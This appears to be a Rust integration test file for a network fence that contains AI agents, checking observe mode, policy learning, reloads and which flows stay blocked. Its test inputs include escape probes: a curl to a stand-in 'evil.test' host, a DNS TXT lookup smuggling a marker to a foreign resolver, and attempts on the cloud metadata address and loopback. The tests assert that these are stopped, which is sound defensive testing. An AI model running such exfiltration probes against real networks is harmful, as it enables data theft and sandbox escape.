//! Agents that are let out to be observed, and rules that are.

use crate::{
    AGENT,
    attack::{stops, stops_only_fenced, works},
    fence,
    fence::Agent,
    places::{DB, EVIL, METADATA, OK, OPEN, OTHER_DNS_V4},
    policies::EMPTY,
    reload::{cut, reload},
    talker::Talker,
};
use serde_json::Value;

#[test]
fn what_is_denied_elsewhere_is_reached_and_recorded_by_an_agent_in_observe_mode() {
    let observing = fence(OBSERVE);
    for (mode, flags) in MODES {
        let agent = observing.agent(mode).with(flags);
        works(&agent, OPEN, &FLOWS);
        for (port, protocol, reason) in [
            (443, "tls", "host-not-allowed"),
            (80, "http", "host-not-allowed"),
            (5432, "tcp", "address-not-granted"),
            (9000, "udp", "address-not-granted"),
        ] {
            let record = observed(&agent, port, protocol);
            assert_eq!(record["observed"], reason, "{record:#}");
            assert_eq!(record["destination"]["name"], "open.test", "{record:#}");
            assert!(record["remedy"].as_str().is_some_and(|rule| rule.contains("open.test")), "{record:#}");
        }
        let lookup = observed(&agent, 0, "dns");
        assert_eq!(lookup["observed"], "host-not-allowed", "{lookup:#}");
        let denials = agent.denials();
        assert!(denials.is_empty(), "nothing of it was denied: {denials:#?}");
    }
    let enforcing = fence(EMPTY);
    for (mode, flags) in MODES {
        stops(&enforcing.agent(mode).with(flags), OPEN, &MARKED);
    }
}

#[test]
fn an_address_without_a_name_is_reached_in_observe_mode_and_told_once_a_flow() {
    let fence = fence(OBSERVE);
    for (mode, flags) in MODES {
        let agent = fence.agent(mode).with(flags);
        works(&agent, OPEN, &["{trick} tcp {v4} 9000 {mark}", "{trick} tcp {v6} 9000 {mark}"]);
        works(&agent, OPEN, &["{trick} udp_connected {v4} 5432 {mark}"]);
        let seen = observed(&agent, 9000, "tcp");
        assert_eq!(seen["observed"], "address-not-granted", "{seen:#}");
        assert_eq!(seen["process"]["executable"].as_str().map(is_python), Some(true), "{seen:#}");
        observed(&agent, 5432, "udp");
        let flows = agent.records().iter().filter(|record| record["destination"]["port"] == 9000).count();
        assert_eq!(flows, 2, "one record for each flow, not for each packet: {:#?}", agent.records());
    }
}

#[test]
fn this_host_its_link_and_its_cloud_are_denied_in_observe_mode_too() {
    let fence = fence(OBSERVE);
    let metadata = METADATA.to_string();
    for (mode, flags) in MODES {
        let agent = fence.agent(mode).with(flags);
        // Of the lab, a private address.
        stops(&agent, EVIL, &["{trick} tcp {v4} 9000 {mark}", "{trick} udp_sendto {v6} 9000 {mark}"]);
        let outcome = agent.run("curl -s -m 2 https://evil.test/");
        assert!(!outcome.succeeded(), "a name with a private address has none: {outcome:#?}");
        let flow = format!("{{trick}} tcp_send_only {metadata} 9000 {{mark}}");
        stops_only_fenced(&agent, EVIL, &[&flow]);
        agent.denial("the metadata service", |record| {
            record["destination"]["address"] == metadata.as_str()
                && record["reason"] == "address-special-purpose"
        });
        agent.denial("a name with a private address", |record| {
            record["gate"] == "name" && record["reason"] == "address-special-purpose"
        });
    }
    let listener = fence.lab().on_host(|| std::net::TcpListener::bind("127.0.0.1:0")).expect("a listener");
    let port = listener.local_addr().expect("an address").port();
    let loopback = format!("{{trick}} tcp_send_only 127.0.0.1 {port} {{mark}}");
    let outcome = fence
        .agent("cgroup")
        .with(&["--mode", "cgroup"])
        .run(&crate::attack::script(&loopback, OPEN, "mark"));
    assert!(!outcome.succeeded(), "a service of this host is out of reach: {outcome:#?}");
}

#[test]
fn what_is_no_plain_flow_is_denied_in_observe_mode_too() {
    let fence = fence(OBSERVE);
    for (mode, flags) in MODES {
        let agent = fence.agent(mode).with(flags);
        let tricks = [
            "{trick} ping {host} {mark}",
            "{trick} raw_icmp {v4} {mark}",
            "{trick} udplite_sendto {v4} 9000 {mark}",
        ];
        stops(&agent, OPEN, &tricks);
        let other = OTHER_DNS_V4.to_string();
        let record = "dig +tcp +short +time=2 +tries=1 {mark}.evil.test TXT @";
        stops_only_fenced(&agent, OPEN, &[&format!("{record}{other}")]);
    }
}

#[test]
fn a_policy_that_is_enforced_from_now_on_cuts_what_was_only_observed() {
    for (_, flags) in MODES {
        let fence = fence(OBSERVE);
        let agent = fence.agent(AGENT).with(flags);
        let [mut direct, mut proxied] = [(); 2].map(|()| Talker::start(&agent));
        direct.does("keep open.test 5432");
        direct.does("say before");
        proxied.does("keep_tls open.test 443");
        proxied.does("say_tls open.test");
        reload(&fence, OBSERVE);
        direct.does("say still");
        proxied.does("say_tls open.test");
        reload(&fence, EMPTY);
        cut(&mut direct, "say after");
        cut(&mut proxied, "say_tls open.test");
        direct.fails("keep open.test 5432");
        reload(&fence, OBSERVE);
        direct.does("keep open.test 5432");
    }
}

#[test]
fn a_rule_on_trial_lets_its_flows_out_and_each_is_recorded() {
    let policy = "
version: 1
agents:
  default:
    rules:
      - {host: ok.test, private: true}
      - {host: open.test, mode: observe}
      - {host: db.test, protocol: tcp, ports: [5432], private: true, mode: observe}
      - {cidr: 20.99.0.77/32, protocol: udp, ports: [9000], mode: observe}
    deny:
      - {host: ok.test, mode: observe}
";
    let fence = fence(policy);
    for (mode, flags) in MODES {
        let agent = fence.agent(mode).with(flags);
        works(&agent, OPEN, &["curl -sSf -m 5 https://{host}/", "{trick} udp_sendto {v4} 9000 {mark}"]);
        works(&agent, OK, &["curl -sSf -m 5 https://{host}/"]);
        works(&agent, DB, &["{trick} tcp {host} 5432 {mark}"]);
        let names = ["open.test", "ok.test"].map(|name| (name, 443, "tls"));
        for (name, port, protocol) in names.into_iter().chain([("db.test", 5432, "tcp")]) {
            let is_it =
                |record: &Value| is_observed(record, port, protocol) && record["destination"]["name"] == name;
            agent.record(name, is_it);
        }
        observed(&agent, 9000, "udp");
        stops(&agent, OPEN, &["{trick} tcp {v4} 9000 {mark}"]);
    }
}

#[test]
fn a_policy_that_was_learned_from_an_agent_allows_what_it_did_and_no_more() {
    let fence = fence(EMPTY);
    for (mode, flags) in MODES {
        let learns = ["--observe", "--mode", mode];
        works(&fence.agent(mode).with(&learns), OPEN, &FLOWS);
        let outcome = fence.ctl(&["suggest", "--agent", mode, "--since", "1h"]);
        assert!(outcome.succeeded(), "{outcome:#?}");
        let learned = outcome.stdout;
        for rule in ["- host: open.test ", "protocol: http", "protocol: tcp, ports: [5432]", "ports: [9000]"]
        {
            assert!(learned.contains(rule), "{rule}: {learned}");
        }
        stops(&fence.agent(mode).with(flags), OPEN, &MARKED[2..]);
        reload(&fence, &learned);
        works(&fence.agent(mode).with(flags), OPEN, &FLOWS);
        stops(&fence.agent(mode).with(flags), OPEN, &["{trick} tcp {v4} 9000 {mark}"]);
        reload(&fence, EMPTY);
    }
}

#[test]
fn an_agent_that_was_started_to_be_observed_is_so_until_it_ends_and_is_told_of() {
    let mut fence = fence(EMPTY);
    let mut talker = Talker::start(&fence.agent(AGENT).with(&["--observe"]));
    talker.does("keep open.test 5432");
    reload(&fence, EMPTY);
    talker.does("say reloaded");
    fence.kill();
    fence.restart();
    talker.does("say restarted");
    talker.does("fetch https://open.test/");
    let status = fence.ctl(&["status"]);
    assert!(status.says("observe mode") && status.says(AGENT), "{status:#?}");
    assert!(fence.ctl(&["agents"]).says("observed"));
    let explained = fence.ctl(&["explain", "open.test", "--agent", AGENT]);
    assert!(explained.succeeded() && explained.says("would be denied"), "{explained:#?}");
}

#[test]
fn what_is_asked_of_the_proxy_is_observed_too_but_not_this_hosts_link() {
    let fence = fence(EMPTY);
    let agent = fence.agent(AGENT).with(&["--observe", "--proxy-env"]);
    let ssh = "curl -s -m 3 --proxytunnel telnet://{host}:5432 < /dev/null; true";
    works(&agent, OPEN, &["curl -sSf -m 5 https://{host}/", "curl -sSf -m 5 http://{host}:8080/", ssh]);
    for (port, protocol) in [(443, "tls"), (8080, "http"), (5432, "tcp")] {
        let record = observed(&agent, port, protocol);
        assert_eq!(
            (&record["gate"], &record["destination"]["name"]),
            (&"server-name".into(), &"open.test".into())
        );
    }
    let ask = |place: &str| agent.run(&format!("curl -sSf -m 3 --proxytunnel https://{place}/"));
    for place in [METADATA.to_string(), "127.0.0.1".to_owned(), format!("{}:53", OPEN.v4)] {
        assert!(!ask(&place).succeeded(), "{place} is out of reach");
    }
}

#[test]
fn flows_of_an_agent_that_makes_frames_are_observed_at_its_link() {
    let fence = fence(&OBSERVE.replace("mode: observe", "mode: observe\n    capabilities: [net_raw]"));
    let agent = fence.agent(AGENT);
    works(&agent, OPEN, &["{trick} tcp {v4} 9000 {mark}", "{trick} udp_sendto {v4} 5432 {mark}"]);
    observed(&agent, 9000, "tcp");
    observed(&agent, 5432, "udp");
    stops(&agent, OPEN, &["{trick} raw_icmp {v4} {mark}", "{trick} raw_protocol {v4} {mark}"]);
    stops(&agent, EVIL, &["{trick} udp_sendto {v4} 9000 {mark}"]);
}

/// Of a policy that allows nothing.
const OBSERVE: &str = "
version: 1
agents:
  default:
    mode: observe
    rules: []
";

const MODES: [(&str, &[&str]); 2] = [("sealed", &["--mode", "sealed"]), ("cgroup", &["--mode", "cgroup"])];

const FLOWS: [&str; 4] = [
    "curl -sSf -m 5 https://{host}/",
    "curl -sSf -m 5 http://{host}/",
    "{trick} tcp {host} 5432 {mark}",
    "getent ahosts {host}; {trick} udp_sendto {v4} 9000 {mark}",
];

/// The same, with something to be seen by.
const MARKED: [&str; 4] = [
    "curl -s -m 2 https://{mark}.{host}/",
    "curl -s -m 2 http://{host}/{mark}",
    "{trick} tcp {v4} 5432 {mark}",
    "{trick} udp_sendto {v4} 9000 {mark}",
];

/// The first record of a flow at `port` that was only observed; of a lookup at none.
fn observed(agent: &Agent, port: u16, protocol: &str) -> Value {
    agent.record("what was observed", |record| is_observed(record, port, protocol))
}

fn is_observed(record: &Value, port: u16, protocol: &str) -> bool {
    let at = record["destination"]["port"].as_u64().unwrap_or_default();
    record["verdict"] == "allow"
        && record["observed"].is_string()
        && (at, record["protocol"].as_str()) == (u64::from(port), Some(protocol))
}

fn is_python(path: &str) -> bool {
    path.contains("python")
}
